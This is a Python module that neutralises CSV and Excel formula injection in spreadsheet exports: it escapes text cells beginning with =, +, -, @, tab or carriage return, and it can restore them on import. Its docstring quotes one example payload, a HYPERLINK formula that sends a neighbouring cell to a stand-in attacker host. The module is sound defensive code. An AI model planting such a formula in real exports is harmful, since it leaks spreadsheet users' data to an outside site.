"""Cells that stay data when a spreadsheet opens them (OWASP "CSV injection").

A client named ``=HYPERLINK("http://evil.example/?"&B3, "Details")`` would otherwise become a
live formula in whoever opens the export, sending a neighbouring cell to another site. Text that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is escaped; numbers are not:
a loss of -12.50 stays a number, and so does "-12.50" written as text.

- CSV has no types, so the cell gets a quote in front (Excel hides it and shows the text).
- Excel files are typed: the cell is written as text with Excel's own "quote prefix" flag, so
  it shows exactly what was stored and stays text even when someone edits it.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable
from typing import TypeVar

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")

Value = TypeVar("Value")


def starts_like_formula(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value)


def inert(value: Value) -> Value | str:
    """The value for a CSV cell: text that a spreadsheet would run gets a quote in front."""
    return "'" + value if starts_like_formula(value) else value


def restore(value: Value) -> Value | str:
    """Undo ``inert`` on import, so an exported file can be edited and imported back."""
    if isinstance(value, str) and value.startswith("'") and starts_like_formula(value[1:]):
        return value[1:]
    return value


def xlsx_append(sheet: Worksheet, values: Iterable[object]) -> None:
    """Append a row to an openpyxl sheet; openpyxl would store text starting with "=" as a formula."""
    row = [_printable(value) for value in values]
    sheet.append(row)
    for column, value in enumerate(row, start=1):
        if starts_like_formula(value):
            cell = sheet.cell(row=sheet.max_row, column=column)
            cell.data_type = "s"
            cell.quotePrefix = True


def _printable(value: object) -> object:
    # Control characters make openpyxl refuse the whole file; a hostile name must not block an export.
    return ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value) if isinstance(value, str) else value


def xlsx_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
